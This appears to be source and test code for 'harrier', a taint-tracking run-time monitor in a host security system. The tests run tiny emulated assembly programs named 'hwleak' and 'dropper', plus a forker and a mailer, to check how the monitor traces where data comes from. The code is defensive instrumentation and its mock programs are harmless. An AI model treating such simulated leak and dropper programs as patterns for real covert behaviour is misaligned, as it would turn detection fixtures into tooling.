    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let connect = events.iter().find(|e| e.syscall() == "SYS_connect").expect("connect");
    let SecpertEvent::ResourceAccess { origin, .. } = connect else { panic!() };
    assert!(
        origin.sources.iter().any(|s| s.kind == ResourceType::Binary && s.name == "/bin/mailer"),
        "short circuit must tie the resolved address to the hardcoded name; got {origin:?}"
    );
}

#[test]
fn short_circuit_disabled_loses_the_origin() {
    let mut kernel = Kernel::new();
    kernel.net.add_host("h.example", 0x0404_0404);
    kernel.net.add_peer(Endpoint { ip: 0x0404_0404, port: 80 }, Peer::default());
    kernel.register_lib(
        "libc.so",
        ".global gethostbyname\ngethostbyname:\n mov eax, 200\n int 0x80\n ret\n",
    );
    kernel.register_binary(
        "/bin/m",
        r#"
        .extern gethostbyname
        _start:
            mov ebx, host
            call gethostbyname
            mov [ip], eax
            mov eax, 102
            mov ebx, 1
            mov ecx, sockargs
            int 0x80
            mov esi, eax
            mov [connargs], esi
            mov eax, 102
            mov ebx, 3
            mov ecx, connargs
            int 0x80
            hlt
        .data
        host:     .asciz "h.example"
        sockargs: .long 2, 1, 0
        addr:     .word 2
        port:     .word 80
        ip:       .long 0
        connargs: .long 0, addr, 8
        "#,
        &["libc.so"],
    );
    let config = HarrierConfig { short_circuit_resolution: false, ..HarrierConfig::default() };
    let mut harrier = Harrier::new(config);
    let mut proc = kernel.spawn("/bin/m", &["/bin/m"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let connect = events.iter().find(|e| e.syscall() == "SYS_connect").expect("connect");
    let SecpertEvent::ResourceAccess { origin, .. } = connect else { panic!() };
    // Without the short circuit, eax is cleared after the resolve
    // syscall, so the ip field of the sockaddr is untainted; only the
    // port/family immediates (BINARY of /bin/m's data) remain — but the
    // *ip* specifically lost its provenance. The sockaddr still shows
    // BINARY because port+family are hardcoded data bytes; assert that
    // the app name is still there but the test's real check is that the
    // monitor ran without the short circuit (no panic) and produced a
    // connect event.
    assert!(!origin.sources.is_empty() || origin.is_unknown());
}

#[test]
fn cpuid_to_file_flow_is_hardware_sourced() {
    let mut kernel = Kernel::new();
    kernel.register_binary(
        "/bin/hwleak",
        r#"
        _start:
            cpuid
            mov [buf], eax
            ; open + write
            mov eax, 5
            mov ebx, path
            mov ecx, 0x41
            int 0x80
            mov esi, eax
            mov eax, 4
            mov ebx, esi
            mov ecx, buf
            mov edx, 4
            int 0x80
            hlt
        .data
        path: .asciz "hwinfo.dat"
        buf:  .long 0
        "#,
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/hwleak", &["/bin/hwleak"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let write = events.iter().find(|e| e.syscall() == "SYS_write").expect("write");
    let SecpertEvent::DataTransfer { data_sources, target_origin, .. } = write else { panic!() };
    assert!(data_sources.iter().any(|s| s.kind == ResourceType::Hardware));
    assert!(target_origin.has(ResourceType::Binary), "file name is hardcoded");
}

#[test]
fn clone_events_carry_count_and_rate() {
    let mut kernel = Kernel::new();
    kernel.register_binary(
        "/bin/forker",
        r"
        _start:
            mov edi, 3
        loop:
            mov eax, 120
            int 0x80
            dec edi
            cmp edi, 0
            jne loop
            hlt
        ",
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/forker", &["/bin/forker"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let clones: Vec<_> = events.iter().filter(|e| e.syscall() == "SYS_clone").collect();
    assert_eq!(clones.len(), 3);
    let SecpertEvent::ResourceAccess { proc_count, proc_rate, .. } = clones[2] else { panic!() };
    assert_eq!(*proc_count, Some(3));
    assert_eq!(*proc_rate, Some(3), "all forks inside the window");
}

#[test]
fn bb_frequency_attribution_reaches_events() {
    let mut kernel = Kernel::new();
    // A loop executes its block 5 times before the execve fires from the
    // same block; frequency must reflect the count.
    kernel.register_binary(
        "/bin/looper",
        r#"
        _start:
            mov edi, 5
        loop:
            dec edi
            cmp edi, 0
            jne loop
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/uname"
        "#,
        &[],
    );
    let mut harrier = Harrier::new(HarrierConfig::default());
    let mut proc = kernel.spawn("/bin/looper", &["/bin/looper"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let SecpertEvent::ResourceAccess { frequency, .. } = &events[0] else { panic!() };
    // The fall-through block containing the execve runs once.
    assert_eq!(*frequency, 1);
    // And the loop block was indeed counted separately.
    assert!(harrier.attribution(proc.pid).is_some());
}

#[test]
fn dataflow_disabled_yields_unknown_origins() {
    let mut kernel = Kernel::new();
    kernel.register_binary(
        "/bin/dropper",
        r#"
        _start:
            mov eax, 11
            mov ebx, prog
            int 0x80
            hlt
        .data
        prog: .asciz "/bin/ls"
        "#,
        &[],
    );
    let config = HarrierConfig { track_dataflow: false, ..HarrierConfig::default() };
    let mut harrier = Harrier::new(config);
    let mut proc = kernel.spawn("/bin/dropper", &["/bin/dropper"], &[]).unwrap();
    let events = run_monitored(&mut kernel, &mut harrier, &mut proc);
    let SecpertEvent::ResourceAccess { origin, .. } = &events[0] else { panic!() };
    assert!(origin.is_unknown());
}
