//! # harrier — HTH's run-time monitor
//!
//! Harrier (paper §7) watches a program execute and produces the events
//! the Secpert expert system reasons about. This crate implements it
//! over the `hth-vm` interpreter and `emukernel` OS substrate:
//!
//! * **tag sets** — every register and memory byte carries a *set* of
//!   [`DataSource`]s (`USER_INPUT`, `FILE(..)`, `SOCKET(..)`,
//!   `BINARY(..)`, `HARDWARE`), not a single taint bit (§5.1). Sets are
//!   hash-consed in a [`TagStore`] and handled as `Copy` [`TagRef`]s;
//!   [`TagSet`] remains as the standalone value type,
//! * **shadow state** ([`Shadow`]) updated from the VM's per-instruction
//!   dataflow micro-ops (§7.3.1), with uniform/dense page compression
//!   (the [`NaiveShadow`] per-byte oracle is kept for differential
//!   testing under the `naive-shadow` feature),
//! * **loader tagging** — image data sections are `BINARY(image)`, the
//!   initial stack (argv/env) is `USER_INPUT` (§7.3.2–7.3.3),
//! * **basic-block frequency** with last-application-BB attribution
//!   across shared objects (§7.4, Figure 3),
//! * **resolution short-circuiting** — `gethostbyname` results inherit
//!   the tag of the *name* argument (§7.2),
//! * **event generation** ([`SecpertEvent`]) from kernel syscall effects:
//!   resource accesses with resource-identifier origins (Table 2) and
//!   data transfers carrying the written bytes' data sources (§6.1.2),
//! * a static **Secure Binary audit** (Appendix B) in [`audit`].
//!
//! The monitoring *session* that wires Harrier to a kernel and processes
//! lives in the `hth-core` crate.

#![warn(missing_docs)]

pub mod audit;
mod events;
mod freq;
mod monitor;
#[cfg(any(test, feature = "naive-shadow"))]
mod naive;
mod shadow;
mod tag;

pub use events::{intern_syscall, Origin, ResourceType, SecpertEvent, ServerInfo, SourceInfo};
pub use freq::BbFreq;
pub use monitor::{Harrier, HarrierConfig, HarrierHooks};
#[cfg(any(test, feature = "naive-shadow"))]
pub use naive::NaiveShadow;
pub use shadow::Shadow;
pub use tag::{DataSource, SourceId, SourceTable, TagRef, TagSet, TagStore, TaintStats};
