//! Data sources and tag sets (paper §5.1).
//!
//! HTH tracks more than a single taint bit: every register and memory
//! byte carries a *set* of data sources, each with a type and a resource
//! name — `USER_INPUT`, `FILE(name)`, `SOCKET(addr)`, `BINARY(image)`,
//! `HARDWARE`. Sources are interned into dense ids; a [`TagSet`] is a
//! small sorted id vector shared behind an `Arc` so tagging a whole
//! buffer is one refcount bump per byte.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// A data source (paper Table 2 rows).
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum DataSource {
    /// Command line, environment, console input.
    UserInput,
    /// Bytes read from a named file.
    File(Arc<str>),
    /// Bytes read from a socket (canonical endpoint rendering).
    Socket(Arc<str>),
    /// Bytes mapped from a binary image (hardcoded data, immediates).
    Binary(Arc<str>),
    /// Values produced by hardware (`cpuid`).
    Hardware,
}

impl DataSource {
    /// The paper's type name for this source.
    pub fn type_name(&self) -> &'static str {
        match self {
            DataSource::UserInput => "USER_INPUT",
            DataSource::File(_) => "FILE",
            DataSource::Socket(_) => "SOCKET",
            DataSource::Binary(_) => "BINARY",
            DataSource::Hardware => "HARDWARE",
        }
    }

    /// The resource name, when the source has one.
    pub fn name(&self) -> Option<&str> {
        match self {
            DataSource::File(n) | DataSource::Socket(n) | DataSource::Binary(n) => Some(n),
            _ => None,
        }
    }

    /// Convenience constructor.
    pub fn file(name: impl AsRef<str>) -> DataSource {
        DataSource::File(Arc::from(name.as_ref()))
    }

    /// Convenience constructor.
    pub fn socket(name: impl AsRef<str>) -> DataSource {
        DataSource::Socket(Arc::from(name.as_ref()))
    }

    /// Convenience constructor.
    pub fn binary(name: impl AsRef<str>) -> DataSource {
        DataSource::Binary(Arc::from(name.as_ref()))
    }
}

impl fmt::Display for DataSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.name() {
            Some(name) => write!(f, "{}(\"{name}\")", self.type_name()),
            None => f.write_str(self.type_name()),
        }
    }
}

/// Interned id of a [`DataSource`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct SourceId(u32);

impl SourceId {
    /// Raw index into the source table.
    pub fn raw(self) -> u32 {
        self.0
    }
}

/// The interning table mapping [`DataSource`]s to dense [`SourceId`]s.
#[derive(Debug, Default)]
pub struct SourceTable {
    by_id: Vec<DataSource>,
    index: HashMap<DataSource, SourceId>,
}

impl SourceTable {
    /// An empty table.
    pub fn new() -> SourceTable {
        SourceTable::default()
    }

    /// Interns a source, returning its stable id.
    pub fn intern(&mut self, source: DataSource) -> SourceId {
        if let Some(id) = self.index.get(&source) {
            return *id;
        }
        let id = SourceId(self.by_id.len() as u32);
        self.by_id.push(source.clone());
        self.index.insert(source, id);
        id
    }

    /// Resolves an id.
    ///
    /// # Panics
    ///
    /// Panics when the id did not come from this table.
    pub fn get(&self, id: SourceId) -> &DataSource {
        &self.by_id[id.0 as usize]
    }

    /// Number of interned sources.
    pub fn len(&self) -> usize {
        self.by_id.len()
    }

    /// True when nothing is interned.
    pub fn is_empty(&self) -> bool {
        self.by_id.is_empty()
    }
}

/// A set of source ids. Empty sets carry no allocation; non-empty sets
/// share a sorted, deduplicated id slice behind an `Arc`.
///
/// The only combining operation is union — the paper's propagation rule
/// ("the resulting set of data sources will be the union of the two
/// sets", §7.3.1).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct TagSet(Option<Arc<[SourceId]>>);

impl TagSet {
    /// The empty tag set.
    pub fn empty() -> TagSet {
        TagSet(None)
    }

    /// A singleton tag set.
    pub fn single(id: SourceId) -> TagSet {
        TagSet(Some(Arc::from(vec![id])))
    }

    /// Builds a set from arbitrary ids (sorted/deduped).
    pub fn from_ids(ids: impl IntoIterator<Item = SourceId>) -> TagSet {
        let mut v: Vec<SourceId> = ids.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        if v.is_empty() {
            TagSet(None)
        } else {
            TagSet(Some(v.into()))
        }
    }

    /// True when no source is present.
    pub fn is_empty(&self) -> bool {
        self.0.is_none()
    }

    /// Number of sources.
    pub fn len(&self) -> usize {
        self.0.as_ref().map_or(0, |s| s.len())
    }

    /// Membership test.
    pub fn contains(&self, id: SourceId) -> bool {
        self.0.as_ref().is_some_and(|s| s.binary_search(&id).is_ok())
    }

    /// Iterates the ids in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = SourceId> + '_ {
        self.0.iter().flat_map(|s| s.iter().copied())
    }

    /// Union with another set. Reuses an input allocation when one side
    /// is empty or a superset.
    #[must_use]
    pub fn union(&self, other: &TagSet) -> TagSet {
        match (&self.0, &other.0) {
            (None, _) => other.clone(),
            (_, None) => self.clone(),
            (Some(a), Some(b)) => {
                if a == b {
                    return self.clone();
                }
                let mut merged = Vec::with_capacity(a.len() + b.len());
                let (mut i, mut j) = (0, 0);
                while i < a.len() && j < b.len() {
                    match a[i].cmp(&b[j]) {
                        std::cmp::Ordering::Less => {
                            merged.push(a[i]);
                            i += 1;
                        }
                        std::cmp::Ordering::Greater => {
                            merged.push(b[j]);
                            j += 1;
                        }
                        std::cmp::Ordering::Equal => {
                            merged.push(a[i]);
                            i += 1;
                            j += 1;
                        }
                    }
                }
                merged.extend_from_slice(&a[i..]);
                merged.extend_from_slice(&b[j..]);
                if merged.len() == a.len() {
                    self.clone()
                } else if merged.len() == b.len() {
                    other.clone()
                } else {
                    TagSet(Some(merged.into()))
                }
            }
        }
    }

    /// Union with a single id.
    #[must_use]
    pub fn with(&self, id: SourceId) -> TagSet {
        if self.contains(id) {
            self.clone()
        } else {
            self.union(&TagSet::single(id))
        }
    }
}

impl FromIterator<SourceId> for TagSet {
    fn from_iter<I: IntoIterator<Item = SourceId>>(iter: I) -> TagSet {
        TagSet::from_ids(iter)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> (SourceTable, SourceId, SourceId, SourceId) {
        let mut t = SourceTable::new();
        let u = t.intern(DataSource::UserInput);
        let f = t.intern(DataSource::file("/etc/passwd"));
        let b = t.intern(DataSource::binary("/bin/app"));
        (t, u, f, b)
    }

    #[test]
    fn interning_is_stable() {
        let (mut t, u, f, _) = table();
        assert_eq!(t.intern(DataSource::UserInput), u);
        assert_eq!(t.intern(DataSource::file("/etc/passwd")), f);
        assert_eq!(t.get(u), &DataSource::UserInput);
        assert_eq!(t.len(), 3);
    }

    #[test]
    fn union_semantics() {
        let (_, u, f, b) = table();
        let a = TagSet::from_ids([u, f]);
        let c = TagSet::from_ids([f, b]);
        let ab = a.union(&c);
        assert_eq!(ab.len(), 3);
        assert!(ab.contains(u) && ab.contains(f) && ab.contains(b));
        // Idempotence and identity.
        assert_eq!(a.union(&a), a);
        assert_eq!(a.union(&TagSet::empty()), a);
        assert_eq!(TagSet::empty().union(&a), a);
        // Commutativity.
        assert_eq!(a.union(&c), c.union(&a));
    }

    #[test]
    fn superset_reuses_allocation() {
        let (_, u, f, _) = table();
        let big = TagSet::from_ids([u, f]);
        let small = TagSet::single(u);
        let out = big.union(&small);
        assert_eq!(out, big);
    }

    #[test]
    fn with_adds_one() {
        let (_, u, f, _) = table();
        let s = TagSet::single(u).with(f).with(f);
        assert_eq!(s.len(), 2);
    }

    #[test]
    fn from_ids_sorts_and_dedups() {
        let (_, u, f, b) = table();
        let s = TagSet::from_ids([b, u, f, u, b]);
        let ids: Vec<_> = s.iter().collect();
        assert_eq!(ids, vec![u, f, b]);
    }

    #[test]
    fn display_shapes() {
        assert_eq!(DataSource::UserInput.to_string(), "USER_INPUT");
        assert_eq!(DataSource::file("/a").to_string(), "FILE(\"/a\")");
        assert_eq!(DataSource::Hardware.to_string(), "HARDWARE");
    }
}
