//! Data sources and tag sets (paper §5.1).
//!
//! HTH tracks more than a single taint bit: every register and memory
//! byte carries a *set* of data sources, each with a type and a resource
//! name — `USER_INPUT`, `FILE(name)`, `SOCKET(addr)`, `BINARY(image)`,
//! `HARDWARE`. Sources are interned into dense ids; a [`TagSet`] is a
//! small sorted id vector shared behind an `Arc` so tagging a whole
//! buffer is one refcount bump per byte.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

/// A data source (paper Table 2 rows).
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum DataSource {
    /// Command line, environment, console input.
    UserInput,
    /// Bytes read from a named file.
    File(Arc<str>),
    /// Bytes read from a socket (canonical endpoint rendering).
    Socket(Arc<str>),
    /// Bytes mapped from a binary image (hardcoded data, immediates).
    Binary(Arc<str>),
    /// Values produced by hardware (`cpuid`).
    Hardware,
}

impl DataSource {
    /// The paper's type name for this source.
    pub fn type_name(&self) -> &'static str {
        match self {
            DataSource::UserInput => "USER_INPUT",
            DataSource::File(_) => "FILE",
            DataSource::Socket(_) => "SOCKET",
            DataSource::Binary(_) => "BINARY",
            DataSource::Hardware => "HARDWARE",
        }
    }

    /// The resource name, when the source has one.
    pub fn name(&self) -> Option<&str> {
        match self {
            DataSource::File(n) | DataSource::Socket(n) | DataSource::Binary(n) => Some(n),
            _ => None,
        }
    }

    /// Convenience constructor.
    pub fn file(name: impl AsRef<str>) -> DataSource {
        DataSource::File(Arc::from(name.as_ref()))
    }

    /// Convenience constructor.
    pub fn socket(name: impl AsRef<str>) -> DataSource {
        DataSource::Socket(Arc::from(name.as_ref()))
    }

    /// Convenience constructor.
    pub fn binary(name: impl AsRef<str>) -> DataSource {
        DataSource::Binary(Arc::from(name.as_ref()))
    }
}

impl fmt::Display for DataSource {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.name() {
            Some(name) => write!(f, "{}(\"{name}\")", self.type_name()),
            None => f.write_str(self.type_name()),
        }
    }
}

/// Interned id of a [`DataSource`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct SourceId(u32);

impl SourceId {
    /// Raw index into the source table.
    pub fn raw(self) -> u32 {
        self.0
    }
}

/// The interning table mapping [`DataSource`]s to dense [`SourceId`]s.
#[derive(Debug, Default)]
pub struct SourceTable {
    by_id: Vec<DataSource>,
    index: HashMap<DataSource, SourceId>,
}

impl SourceTable {
    /// An empty table.
    pub fn new() -> SourceTable {
        SourceTable::default()
    }

    /// Interns a source, returning its stable id.
    pub fn intern(&mut self, source: DataSource) -> SourceId {
        if let Some(id) = self.index.get(&source) {
            return *id;
        }
        let id = SourceId(self.by_id.len() as u32);
        self.by_id.push(source.clone());
        self.index.insert(source, id);
        id
    }

    /// Resolves an id.
    ///
    /// # Panics
    ///
    /// Panics when the id did not come from this table.
    pub fn get(&self, id: SourceId) -> &DataSource {
        &self.by_id[id.0 as usize]
    }

    /// Number of interned sources.
    pub fn len(&self) -> usize {
        self.by_id.len()
    }

    /// True when nothing is interned.
    pub fn is_empty(&self) -> bool {
        self.by_id.is_empty()
    }
}

/// A set of source ids. Empty sets carry no allocation; non-empty sets
/// share a sorted, deduplicated id slice behind an `Arc`.
///
/// The only combining operation is union — the paper's propagation rule
/// ("the resulting set of data sources will be the union of the two
/// sets", §7.3.1).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct TagSet(Option<Arc<[SourceId]>>);

impl TagSet {
    /// The empty tag set.
    pub fn empty() -> TagSet {
        TagSet(None)
    }

    /// A singleton tag set.
    pub fn single(id: SourceId) -> TagSet {
        TagSet(Some(Arc::from(vec![id])))
    }

    /// Builds a set from arbitrary ids (sorted/deduped).
    pub fn from_ids(ids: impl IntoIterator<Item = SourceId>) -> TagSet {
        let mut v: Vec<SourceId> = ids.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        if v.is_empty() {
            TagSet(None)
        } else {
            TagSet(Some(v.into()))
        }
    }

    /// True when no source is present.
    pub fn is_empty(&self) -> bool {
        self.0.is_none()
    }

    /// Number of sources.
    pub fn len(&self) -> usize {
        self.0.as_ref().map_or(0, |s| s.len())
    }

    /// Membership test.
    pub fn contains(&self, id: SourceId) -> bool {
        self.0.as_ref().is_some_and(|s| s.binary_search(&id).is_ok())
    }

    /// Iterates the ids in ascending order.
    pub fn iter(&self) -> impl Iterator<Item = SourceId> + '_ {
        self.0.iter().flat_map(|s| s.iter().copied())
    }

    /// Union with another set. Reuses an input allocation when one side
    /// is empty or a superset.
    #[must_use]
    pub fn union(&self, other: &TagSet) -> TagSet {
        match (&self.0, &other.0) {
            (None, _) => other.clone(),
            (_, None) => self.clone(),
            (Some(a), Some(b)) => {
                if a == b {
                    return self.clone();
                }
                let mut merged = Vec::with_capacity(a.len() + b.len());
                let (mut i, mut j) = (0, 0);
                while i < a.len() && j < b.len() {
                    match a[i].cmp(&b[j]) {
                        std::cmp::Ordering::Less => {
                            merged.push(a[i]);
                            i += 1;
                        }
                        std::cmp::Ordering::Greater => {
                            merged.push(b[j]);
                            j += 1;
                        }
                        std::cmp::Ordering::Equal => {
                            merged.push(a[i]);
                            i += 1;
                            j += 1;
                        }
                    }
                }
                merged.extend_from_slice(&a[i..]);
                merged.extend_from_slice(&b[j..]);
                if merged.len() == a.len() {
                    self.clone()
                } else if merged.len() == b.len() {
                    other.clone()
                } else {
                    TagSet(Some(merged.into()))
                }
            }
        }
    }

    /// Union with a single id.
    #[must_use]
    pub fn with(&self, id: SourceId) -> TagSet {
        if self.contains(id) {
            self.clone()
        } else {
            self.union(&TagSet::single(id))
        }
    }
}

impl FromIterator<SourceId> for TagSet {
    fn from_iter<I: IntoIterator<Item = SourceId>>(iter: I) -> TagSet {
        TagSet::from_ids(iter)
    }
}

/// A compact, copyable handle to a canonical tag set interned in a
/// [`TagStore`].
///
/// Two refs from the same store are equal exactly when they denote the
/// same set of sources, so equality is O(1) and shadow state can store a
/// plain `u32` per byte instead of an `Arc` per byte. [`TagRef::EMPTY`]
/// (the default) is the empty set in every store.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct TagRef(u32);

impl TagRef {
    /// The empty tag set (slot 0 of every store).
    pub const EMPTY: TagRef = TagRef(0);

    /// True for the empty set.
    pub fn is_empty(self) -> bool {
        self == TagRef::EMPTY
    }

    /// Raw index into the owning store.
    pub fn raw(self) -> u32 {
        self.0
    }
}

/// Snapshot of a [`TagStore`]'s interning and memoization counters.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct TaintStats {
    /// Distinct tag sets interned (including the empty set).
    pub interned_sets: usize,
    /// Union results answered from the memo cache.
    pub memo_hits: u64,
    /// Unions that had to merge id slices.
    pub memo_misses: u64,
}

impl TaintStats {
    /// Folds another store's counters in (fleet-wide totals). Hit/miss
    /// counts add; `interned_sets` keeps the maximum — the stores are
    /// independent, so a sum would count nothing meaningful, while the
    /// max is the largest working set any one session built.
    pub fn merge(&mut self, other: &TaintStats) {
        self.interned_sets = self.interned_sets.max(other.interned_sets);
        self.memo_hits += other.memo_hits;
        self.memo_misses += other.memo_misses;
    }

    /// Folds the counters into `metrics` under `hth_taint_*` names.
    pub fn record_metrics(&self, metrics: &mut hth_trace::MetricsSnapshot) {
        metrics.max_gauge("hth_taint_interned_sets", self.interned_sets as i64);
        metrics.add_counter("hth_taint_memo_hits", self.memo_hits);
        metrics.add_counter("hth_taint_memo_misses", self.memo_misses);
    }
}

/// Hash-consing store for tag sets.
///
/// Every distinct set of [`SourceId`]s is interned exactly once as a
/// canonical sorted slice and addressed by a [`TagRef`]; the union of
/// two refs is memoized, so the steady-state cost of the paper's
/// propagation rule (§7.3.1) is one hash lookup instead of a merge and
/// an allocation per instruction.
#[derive(Debug)]
pub struct TagStore {
    sets: Vec<Arc<[SourceId]>>,
    index: HashMap<Arc<[SourceId]>, u32>,
    unions: HashMap<(u32, u32), u32>,
    memo_hits: u64,
    memo_misses: u64,
}

impl Default for TagStore {
    fn default() -> TagStore {
        TagStore::new()
    }
}

impl TagStore {
    /// A store containing only the empty set.
    pub fn new() -> TagStore {
        let empty: Arc<[SourceId]> = Arc::from(Vec::new());
        let mut index = HashMap::new();
        index.insert(empty.clone(), 0);
        TagStore { sets: vec![empty], index, unions: HashMap::new(), memo_hits: 0, memo_misses: 0 }
    }

    fn intern_sorted(&mut self, ids: Vec<SourceId>) -> TagRef {
        if let Some(&slot) = self.index.get(ids.as_slice()) {
            return TagRef(slot);
        }
        let arc: Arc<[SourceId]> = ids.into();
        let slot = self.sets.len() as u32;
        self.sets.push(arc.clone());
        self.index.insert(arc, slot);
        TagRef(slot)
    }

    /// Interns a singleton set.
    pub fn single(&mut self, id: SourceId) -> TagRef {
        self.intern_sorted(vec![id])
    }

    /// Interns arbitrary ids (sorted/deduped to the canonical form).
    pub fn from_ids(&mut self, ids: impl IntoIterator<Item = SourceId>) -> TagRef {
        let mut v: Vec<SourceId> = ids.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        self.intern_sorted(v)
    }

    /// Interns an existing [`TagSet`].
    pub fn intern_set(&mut self, set: &TagSet) -> TagRef {
        self.from_ids(set.iter())
    }

    /// The canonical sorted id slice behind a ref.
    ///
    /// # Panics
    ///
    /// Panics when the ref did not come from this store.
    pub fn ids(&self, r: TagRef) -> &[SourceId] {
        &self.sets[r.0 as usize]
    }

    /// Materializes a ref back into a standalone [`TagSet`].
    pub fn to_set(&self, r: TagRef) -> TagSet {
        TagSet::from_ids(self.ids(r).iter().copied())
    }

    /// Membership test.
    pub fn contains(&self, r: TagRef, id: SourceId) -> bool {
        self.ids(r).binary_search(&id).is_ok()
    }

    /// Union of two refs (memoized; the only combining operation).
    pub fn union(&mut self, a: TagRef, b: TagRef) -> TagRef {
        if a == b || b.is_empty() {
            return a;
        }
        if a.is_empty() {
            return b;
        }
        let key = (a.0.min(b.0), a.0.max(b.0));
        if let Some(&slot) = self.unions.get(&key) {
            self.memo_hits += 1;
            return TagRef(slot);
        }
        self.memo_misses += 1;
        let merged = {
            let (xs, ys) = (self.ids(a), self.ids(b));
            let mut merged = Vec::with_capacity(xs.len() + ys.len());
            let (mut i, mut j) = (0, 0);
            while i < xs.len() && j < ys.len() {
                match xs[i].cmp(&ys[j]) {
                    std::cmp::Ordering::Less => {
                        merged.push(xs[i]);
                        i += 1;
                    }
                    std::cmp::Ordering::Greater => {
                        merged.push(ys[j]);
                        j += 1;
                    }
                    std::cmp::Ordering::Equal => {
                        merged.push(xs[i]);
                        i += 1;
                        j += 1;
                    }
                }
            }
            merged.extend_from_slice(&xs[i..]);
            merged.extend_from_slice(&ys[j..]);
            merged
        };
        let out = if merged.len() == self.ids(a).len() {
            a
        } else if merged.len() == self.ids(b).len() {
            b
        } else {
            self.intern_sorted(merged)
        };
        self.unions.insert(key, out.0);
        out
    }

    /// Union with a single id.
    pub fn with(&mut self, r: TagRef, id: SourceId) -> TagRef {
        if self.contains(r, id) {
            r
        } else {
            let s = self.single(id);
            self.union(r, s)
        }
    }

    /// Interning/memoization counters (benchmark instrumentation).
    pub fn stats(&self) -> TaintStats {
        TaintStats {
            interned_sets: self.sets.len(),
            memo_hits: self.memo_hits,
            memo_misses: self.memo_misses,
        }
    }

    /// Approximate resident bytes: interned id sets (each held by the
    /// set table and its reverse-lookup index) plus the union memo. The
    /// store is append-only — this is one of the two per-session growth
    /// surfaces the fleet memory budget tracks.
    pub fn approx_bytes(&self) -> usize {
        let ids: usize = self.sets.iter().map(|s| s.len() * std::mem::size_of::<SourceId>()).sum();
        // Each set: one Arc in `sets`, one Arc + u32 entry in `index`.
        self.sets.len() * (16 + 32) + ids * 2 + self.unions.len() * 24
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> (SourceTable, SourceId, SourceId, SourceId) {
        let mut t = SourceTable::new();
        let u = t.intern(DataSource::UserInput);
        let f = t.intern(DataSource::file("/etc/passwd"));
        let b = t.intern(DataSource::binary("/bin/app"));
        (t, u, f, b)
    }

    #[test]
    fn interning_is_stable() {
        let (mut t, u, f, _) = table();
        assert_eq!(t.intern(DataSource::UserInput), u);
        assert_eq!(t.intern(DataSource::file("/etc/passwd")), f);
        assert_eq!(t.get(u), &DataSource::UserInput);
        assert_eq!(t.len(), 3);
    }

    #[test]
    fn union_semantics() {
        let (_, u, f, b) = table();
        let a = TagSet::from_ids([u, f]);
        let c = TagSet::from_ids([f, b]);
        let ab = a.union(&c);
        assert_eq!(ab.len(), 3);
        assert!(ab.contains(u) && ab.contains(f) && ab.contains(b));
        // Idempotence and identity.
        assert_eq!(a.union(&a), a);
        assert_eq!(a.union(&TagSet::empty()), a);
        assert_eq!(TagSet::empty().union(&a), a);
        // Commutativity.
        assert_eq!(a.union(&c), c.union(&a));
    }

    #[test]
    fn superset_reuses_allocation() {
        let (_, u, f, _) = table();
        let big = TagSet::from_ids([u, f]);
        let small = TagSet::single(u);
        let out = big.union(&small);
        assert_eq!(out, big);
    }

    #[test]
    fn with_adds_one() {
        let (_, u, f, _) = table();
        let s = TagSet::single(u).with(f).with(f);
        assert_eq!(s.len(), 2);
    }

    #[test]
    fn from_ids_sorts_and_dedups() {
        let (_, u, f, b) = table();
        let s = TagSet::from_ids([b, u, f, u, b]);
        let ids: Vec<_> = s.iter().collect();
        assert_eq!(ids, vec![u, f, b]);
    }

    #[test]
    fn display_shapes() {
        assert_eq!(DataSource::UserInput.to_string(), "USER_INPUT");
        assert_eq!(DataSource::file("/a").to_string(), "FILE(\"/a\")");
        assert_eq!(DataSource::Hardware.to_string(), "HARDWARE");
    }

    #[test]
    fn store_interns_canonically() {
        let (_, u, f, b) = table();
        let mut store = TagStore::new();
        let x = store.from_ids([u, f, b]);
        let y = store.from_ids([b, b, f, u]);
        assert_eq!(x, y);
        assert_eq!(store.ids(x), &[u, f, b]);
        assert_eq!(store.from_ids([]), TagRef::EMPTY);
        assert!(TagRef::default().is_empty());
    }

    #[test]
    fn store_union_is_memoized() {
        let (_, u, f, b) = table();
        let mut store = TagStore::new();
        let a = store.from_ids([u, f]);
        let c = store.from_ids([f, b]);
        let first = store.union(a, c);
        assert_eq!(store.ids(first), &[u, f, b]);
        let misses = store.stats().memo_misses;
        let again = store.union(c, a);
        assert_eq!(first, again);
        assert_eq!(store.stats().memo_misses, misses, "second union must hit the memo");
        assert!(store.stats().memo_hits >= 1);
    }

    #[test]
    fn store_union_shortcuts_allocate_nothing() {
        let (_, u, f, _) = table();
        let mut store = TagStore::new();
        let big = store.from_ids([u, f]);
        let small = store.single(u);
        let interned = store.stats().interned_sets;
        assert_eq!(store.union(big, TagRef::EMPTY), big);
        assert_eq!(store.union(TagRef::EMPTY, big), big);
        assert_eq!(store.union(big, big), big);
